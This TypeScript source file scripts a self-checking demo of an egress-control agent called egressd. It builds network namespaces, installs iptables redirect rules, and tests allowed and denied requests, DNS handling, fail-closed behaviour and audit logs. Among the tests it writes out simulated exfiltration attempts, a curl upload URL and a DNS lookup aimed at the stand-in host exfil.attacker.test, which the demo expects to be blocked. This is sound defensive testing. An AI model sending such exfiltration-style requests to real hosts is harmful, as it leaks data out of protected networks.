import { readAuditFile, type AuditRecord } from '../core/audit.ts';
import { pollUntil, type TeardownHost } from '../lab/netns.ts';
import { withTeardown } from '../lab/teardown.ts';
import { APP_UID, curlFromPod, curlShown, digFromPod, digShown, keepAliveFromPod, keepAliveShown, udpFromPod, type CurlResult } from './pod-app.ts';
import { ADMIN_URL, AGENT_UID, API_HOST, agentArgs, createDemoLab, installInit, startPodAgent } from './pod-lab.ts';
import { egressctl, heading, indent, reportSurprises, say, showAuditRecords, showInFull, showResult } from './present.ts';

/**
 * `egressd demo --transparent` (root): the explicit demo's story, but the
 * application has no proxy setting at all. A real pod network namespace, the
 * real `egressd init` rules and `egressd agent`, real curl as UID 1000; the
 * kernel hands every connection to the agent. Ends with the agent killed
 * (nothing gets out) and the audit log as a table. Checks its own outcomes.
 */
export interface TransparentDemoOptions {
  /** Prefix of the two network namespaces it creates and deletes. */
  netnsPrefix: string;
}

/**
 * What leaves an audit record: both allowed requests, the denied TLS host, the denied port, the
 * kept-alive connection cut and curl's retry of its second request, the denied DNS query, the request to the VIP.
 */
const EXPECTED_RECORDS = 8;
/** Istio's auto-allocated virtual IPs (docs/dns.md): the agent's own answer, not any server's. */
const VIP_RANGE = /^240\.240\.\d+\.\d+$/;

type Expectation = (r: CurlResult) => string | undefined;

const httpStatus =
  (status: number): Expectation =>
  (r) =>
    r.status === status ? undefined : `got ${describe(r)}, expected HTTP ${status}`;

const curlExit =
  (exit: number, meaning: string): Expectation =>
  (r) =>
    r.exit === exit && r.status === null ? undefined : `got ${describe(r)}, expected curl exit ${exit} (${meaning})`;

const noResponse: Expectation = (r) => (r.exit !== 0 && r.status === null ? undefined : `got ${describe(r)}, expected no response at all`);

function describe(r: CurlResult): string {
  return r.status === null ? `curl exit ${r.exit}: ${r.error}` : `HTTP ${r.status}`;
}

export function runTransparentDemo(options: TransparentDemoOptions): Promise<number> {
  return withTeardown((td) => run(td, options), (message) => process.stderr.write(`egressd demo: ${message}\n`));
}

async function run(td: TeardownHost, options: TransparentDemoOptions): Promise<number> {
  heading('1. The lab: a pod network namespace whose only way out is an "internet" namespace');
  const lab = await createDemoLab(td, options.netnsPrefix);
  const { pod, internet, podIp, internetIp } = lab.topo;
  say(
    `pod       ${pod.padEnd(16)} eth0 ${podIp}, default route via ${internetIp}\n` +
      `internet  ${internet.padEnd(16)} eth0 ${internetIp}: ${API_HOST} on :443 (HTTPS, throwaway CA) and :80 (HTTP), and a UDP listener on :443\n` +
      'Both namespaces are deleted when the demo ends, Ctrl-C included.',
  );

  heading("2. egressd init in the pod namespace: the init container's iptables rules");
  say('$ egressd init      (in the pod namespace, as root)');
  const init = await installInit(lab);
  say(`${indent(ipv4Part(init))}\n  (IPv6: the same through ip6tables-restore)`);

  heading(`3. egressd agent in the pod namespace, as UID ${AGENT_UID}: the one UID the rules let out`);
  say(`$ egressd ${agentArgs(lab).join(' ')}`);
  const agent = await startPodAgent(td, lab);
  await egressctl(['status', '--admin', ADMIN_URL], { netns: pod });

  const surprises: string[] = [];
  const request = async (what: string, url: string, expect: Expectation): Promise<void> => {
    const r = await curlFromPod(lab, url, internetIp);
    showResult(`${what}\n  $ ${curlShown(url, internetIp)}`, describe(r), r.status === null ? '' : r.body);
    const problem = expect(r);
    if (problem !== undefined) surprises.push(`${what}: ${problem}`);
  };

  heading(`4. The application's requests, as UID ${APP_UID}, with no proxy settings at all`);
  say(`curl connects to ${internetIp} itself (--resolve stands in for DNS); the rules hand each connection to the agent.\n`);
  await request('GET https://api.example.test/v1/status   (allowed: ServiceEntry demo-api, port 443)', 'https://api.example.test/v1/status', httpStatus(200));
  await request('GET http://api.example.test/v1/plain     (allowed: ServiceEntry demo-api, port 80)', 'http://api.example.test/v1/plain', httpStatus(200));
  await request('GET https://exfil.attacker.test/upload   (no ServiceEntry: the TLS handshake is refused)', 'https://exfil.attacker.test/upload', curlExit(35, 'TLS alert'));
  await request('GET http://api.example.test:8080/        (host allowed, port not: 403 that explains)', 'http://api.example.test:8080/', httpStatus(403));
  const plainUrl = 'http://api.example.test/v1/plain';
  const [sameHost, otherHost] = await keepAliveFromPod(lab, plainUrl, internetIp, 'neighbour.example.test');
  showResult(
    `Two requests on one kept-alive connection, the second for another site behind the same address   (cut before it leaves)\n  $ ${keepAliveShown(plainUrl, internetIp, 'neighbour.example.test')}`,
    `first: ${describe(sameHost!)}; second: ${describe(otherHost!)}\n` +
      '     (the agent reset the kept-alive connection before the second request left; curl retried it on a new connection, which the agent decided on its own: 403)',
  );
  if (sameHost?.status !== 200 || otherHost?.status !== 403) surprises.push(`kept-alive connection: got first ${describe(sameHost!)}, second ${describe(otherHost!)}; expected 200, then 403`);
  const udp = await udpFromPod(lab, internetIp, 443);
  showResult(`QUIC (UDP) to ${internetIp}:443, what HTTP/3 tries first   (rejected by the rules: clients fall back to TCP)`, udp.outcome === 'error' ? `rejected at once: ${udp.code}` : udp.detail);
  if (udp.outcome !== 'error') surprises.push(`UDP to 443: ${udp.outcome} (${udp.detail}), expected a rejection`);

  heading(`5. The application's DNS, as UID ${APP_UID}: port 53 is redirected to the agent (15053), whatever server is asked`);
  say(`The pod's resolv.conf names ${internetIp}, where nothing listens on 53; the agent answers allowlisted names itself (--dns-auto-allocate: a virtual IP) and refuses the rest.\n`);
  const allowedDns = await digFromPod(lab, API_HOST);
  showResult(`${API_HOST}   (allowed: ServiceEntry demo-api)\n  $ ${digShown(API_HOST)}`, `${allowedDns.status ?? 'no answer'} ${allowedDns.addresses.join(' ')}`.trim());
  if (allowedDns.status !== 'NOERROR' || allowedDns.addresses.length === 0 || !allowedDns.addresses.every((a) => VIP_RANGE.test(a)))
    surprises.push(`dig ${API_HOST}: expected NOERROR with a virtual IP (240.240.x.x), got: ${allowedDns.output}`);
  const deniedDns = await digFromPod(lab, 'exfil.attacker.test');
  showResult(`exfil.attacker.test   (no ServiceEntry: refused, and audited)\n  $ ${digShown('exfil.attacker.test')}`, `${deniedDns.status ?? 'no answer'} ${deniedDns.addresses.join(' ')}`.trim());
  if (deniedDns.status !== 'NXDOMAIN' || deniedDns.addresses.length > 0) surprises.push(`dig exfil.attacker.test: expected NXDOMAIN, got: ${deniedDns.output}`);
  say('');
  const viaVip = async (what: string, url: string): Promise<void> => {
    const r = await curlFromPod(lab, url);
    showResult(`${what}\n  $ ${curlShown(url)}`, describe(r), r.status === null ? '' : r.body);
    if (r.status !== 200) surprises.push(`${what}: got ${describe(r)}, expected HTTP 200`);
  };
  await viaVip('GET http://api.example.test/v1/plain   (no --resolve: the VIP, which the agent routes by name)', 'http://api.example.test/v1/plain');

  heading('6. Why was it blocked? egressctl check answers from the same allowlists');
  await egressctl(['check', '--config', 'deploy/examples', '--namespace', 'default', 'exfil.attacker.test:443']);

  // Records are written when connections close; all are closed, but the file is appended asynchronously.
  const records = await pollUntil('the audit records', async () => {
    const now = await readAuditFile(lab.auditFile);
    return now.length >= EXPECTED_RECORDS ? now : undefined;
  }).catch(async (): Promise<AuditRecord[]> => readAuditFile(lab.auditFile));

  heading('7. Fail closed: the agent is killed (SIGKILL), and the allowed request is tried again');
  process.kill(agent.pid, 'SIGKILL');
  await agent.exited;
  await request('GET https://api.example.test/v1/status   (allowed, but nothing is there to let it out)', 'https://api.example.test/v1/status', noResponse);

  heading("8. The audit records: one per connection or refused DNS query, JSON lines in the agent's --audit-log (here as a table)");
  showAuditRecords(records, { label: 'The denied TLS connection', match: (r) => r.decision === 'deny' && r.protocol === 'tls' });
  const cut = records.find((r) => r.reason === 'host_mismatch');
  if (cut?.decision !== 'deny' || !cut.error?.startsWith('request 2 names host "neighbour.example.test"'))
    surprises.push(`the kept-alive connection's record: expected a deny for host_mismatch on request 2, got ${JSON.stringify(cut ?? null)}`);
  const dnsDenial = records.find((r) => r.protocol === 'dns');
  showInFull('The denied DNS query', dnsDenial);
  if (dnsDenial?.decision !== 'deny' || dnsDenial.host !== 'exfil.attacker.test' || dnsDenial.listener !== 'dns' || dnsDenial.host_source !== 'dns')
    surprises.push(`the DNS audit record: expected a deny of exfil.attacker.test on listener dns, got ${JSON.stringify(dnsDenial ?? null)}`);
  if (records.length !== EXPECTED_RECORDS) surprises.push(`${records.length} audit records, expected ${EXPECTED_RECORDS}`);
  return reportSurprises(surprises);
}

/** The IPv4 half of what `egressd init` printed (the IPv6 half differs only in addresses and ICMPv6). */
function ipv4Part(initOutput: string): string {
  const start = initOutput.indexOf('# ipv4');
  const end = initOutput.indexOf('# ipv6');
  return initOutput.slice(Math.max(start, 0), end > start ? end : undefined).trimEnd();
}
